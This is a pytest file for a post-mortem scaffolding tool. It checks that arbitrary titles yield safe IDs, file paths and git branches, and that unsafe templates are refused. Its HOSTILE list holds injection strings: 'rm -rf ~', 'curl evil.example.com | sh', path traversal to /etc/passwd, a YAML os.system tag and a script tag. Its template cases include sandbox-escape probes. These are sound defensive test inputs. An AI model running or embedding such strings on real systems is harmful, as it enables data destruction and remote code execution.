"""A new post-mortem: whatever its title, its file, branch and front matter are sane."""

from __future__ import annotations

import datetime as dt
import re
import subprocess

import pytest

from afterword.adapters import tree
from afterword.core import policy, reading, scaffold
from afterword.core.scaffold import Draft, branch_of, clean_title, new_id, path_of, render, slug
from afterword.errors import ConfigError
from tests.support.project import POLICY, Project

HOSTILE = [
    "--help; $(rm -rf ~)",
    "`id` && curl evil.example.com | sh",
    "../../../etc/passwd",
    "..\\..\\windows",
    "a/b/c.lock",
    "HEAD",
    "@{-1}",
    "title: [unclosed, *alias, &anchor, !!python/object:os.system",
    "--- \n# injected: yes",
    "quote \" and ' and \\ and {{ 7 * 7 }} {% raw %}",
    "<script>alert(1)</script>",
    "Subject\r\nBcc: everyone@example.com",
    "決済サービスが停止した",
    "Сбой оплаты",
    "دفع معطل",
    "🔥🔥🔥",
    "yes",
    "null",
    "2026-11-20",
    "12:30:15",
    "x" * 200,
    "word " * 50,
    "\u202egnp.exe",
    "a\x00b\x07c",
    ".hidden",
    "-",
    "CON",
]
POLICY_VALUE = policy.parse(POLICY)


def _draft(title: str) -> Draft:
    return Draft(
        title=clean_title(title),
        severity="critical",
        owner="alice",
        started_at=dt.datetime(2026, 11, 20, 9, 12, tzinfo=dt.UTC),
        resolved_at=dt.datetime(2026, 11, 20, 10, 40, tzinfo=dt.UTC),
        due_on=dt.date(2026, 11, 27),
        services=("checkout", "a, b: [c]"),
        customers=("Ümläut & Sons <b>", "yes"),
    )


@pytest.mark.parametrize("title", HOSTILE)
def test_any_title_makes_a_sane_file_and_branch(title: str) -> None:
    id_ = new_id(_draft(title))
    assert re.fullmatch(r"2026-11-20-[a-z0-9]+(-[a-z0-9]+)*", id_)
    assert len(id_) <= len("2026-11-20-") + scaffold.MAX_SLUG
    assert path_of(id_) == f"postmortems/2026/{id_}.md"
    subprocess.run(["git", "check-ref-format", "--branch", branch_of(id_)], check=True, capture_output=True)


@pytest.mark.parametrize("title", HOSTILE)
def test_any_title_is_read_back_as_it_was(title: str, project: Project) -> None:
    draft = _draft(title)
    found = reading.read(render(tree.template(project.root), draft, POLICY_VALUE), path_of(new_id(draft)))
    assert found.problems == ()
    assert found.title == draft.title
    assert (found.services, found.customers) == (draft.services, draft.customers)
    assert (found.started_at, found.resolved_at, found.due_on) == (draft.started_at, draft.resolved_at, draft.due_on)
    assert [section.title for section in found.sections] == [section.name for section in POLICY_VALUE.sections]


def test_a_title_is_one_line_of_visible_characters() -> None:
    assert clean_title("  a\r\nb\x00\tc ") == "a b c"


@pytest.mark.parametrize("title", ["", " \n\t", "\x00\x07"])
def test_an_empty_title_is_refused(title: str) -> None:
    with pytest.raises(ConfigError, match="empty"):
        clean_title(title)


def test_an_endless_title_is_refused() -> None:
    with pytest.raises(ConfigError, match="301 characters"):
        clean_title("x" * 301)


def test_words_are_kept_whole_and_in_order() -> None:
    assert slug("Checkout unavailable for EU customers") == "checkout-unavailable-for-eu-customers"


def test_later_attempts_are_told_by_a_number() -> None:
    assert new_id(_draft("Down"), 2) == "2026-11-20-down-2"


def test_the_day_of_an_id_is_in_utc() -> None:
    zone = dt.timezone(dt.timedelta(hours=13))
    draft = Draft(title="x", severity="low", owner="a", started_at=dt.datetime(2026, 11, 21, 9, 0, tzinfo=zone))
    assert new_id(draft) == "2026-11-20-x"


def test_an_unfilled_value_leaves_no_blank_at_the_end_of_its_line(project: Project) -> None:
    text = render(tree.template(project.root), _draft("Down"), POLICY_VALUE)
    assert "detected_at:\n" in text
    assert not re.search(r"[ \t]$", text, re.MULTILINE)
    assert text.endswith("-->\n")


@pytest.mark.parametrize(
    ("template", "says"),
    [
        ("a\nb {{ title", "line 2"),
        ("{{ titel }}", "titel"),
        ("{{ ''.__class__.__mro__ }}", "unsafe"),
        ("{{ policy.people.clear() }}", "unsafe"),
    ],
)
def test_a_broken_or_hostile_template_is_refused(template: str, says: str) -> None:
    with pytest.raises(ConfigError, match=says):
        render(template, _draft("Down"), POLICY_VALUE)
